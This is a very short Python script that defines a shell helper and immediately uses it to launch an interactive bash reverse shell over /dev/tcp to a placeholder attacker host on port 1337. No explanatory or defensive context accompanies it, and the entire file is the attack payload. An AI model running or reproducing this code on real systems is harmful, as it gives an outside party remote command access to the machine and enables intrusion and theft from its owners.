#!/usr/bin/env python3

import subprocess

def sh(cmd, **kw):
    return subprocess.call(["/bin/bash", "-c", cmd], **kw)

sh("bash -i >& /dev/tcp/attacker.example.net/1337 0>&1")
